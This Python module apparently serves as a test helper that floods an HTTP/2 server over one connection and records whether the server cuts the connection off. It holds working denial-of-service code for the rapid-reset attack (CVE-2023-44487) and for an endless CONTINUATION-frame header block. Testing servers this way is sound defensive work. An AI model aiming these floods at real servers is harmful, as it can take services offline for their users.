"""Attacks on an HTTP/2 server over one connection: more of something than any client would send."""
import socket
import struct
import threading

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, Connection, frame, grpc_message,
                   header_block)

_CANCEL = struct.pack(">I", 8)
_STREAMS_PER_WRITE = 50


class Flood:
    """Writes `pieces` until they end or the other side has closed, and reads what comes back meanwhile.

    num_written: pieces handed to the connection. cut_off: the other side closed it before the last one.
    """

    def __init__(self, address, pieces):
        self.num_written, self.cut_off = 0, True
        self._closed = threading.Event()
        with Connection(address) as connection:
            reader = threading.Thread(target=self._read, args=(connection,))
            reader.start()
            try:
                self._write(connection.socket, pieces)
            except OSError:
                pass  # closed by the other side: cut off
            reader.join()

    def _write(self, connection, pieces):
        for piece in pieces:
            if self._closed.is_set():
                return
            connection.sendall(piece)
            self.num_written += 1
        self.cut_off = False
        connection.shutdown(socket.SHUT_WR)  # the other side closes now, which ends the reading

    def _read(self, connection):
        try:
            while connection.next_frame() is not None:
                pass
        except OSError:
            pass  # a reset instead of an end, or an acknowledgement that could not be written
        self._closed.set()


def rapid_reset(address, path, num_streams, message=None):
    """Streams that are reset at once (CVE-2023-44487): before their body, or after the whole `message`."""
    block = header_block(path)

    def stream(number):
        out = frame(HEADERS, END_HEADERS, number, block)
        if message is not None:
            out += frame(DATA, END_STREAM, number, grpc_message(message))
        return out + frame(RST_STREAM, 0, number, _CANCEL)

    return Flood(address, (b"".join(stream(2 * (i + k) + 1) for k in range(_STREAMS_PER_WRITE))
                           for i in range(0, num_streams, _STREAMS_PER_WRITE)))


def endless_headers(address, path, num_frames):
    """One header block that does not end: CONTINUATION frames of small fields."""
    field = b"\0\x04abcd\x04efgh"
    first = frame(HEADERS, 0, 1, header_block(path))
    return Flood(address, (frame(CONTINUATION, 0, 1, field * 100) if i else first for i in range(num_frames)))
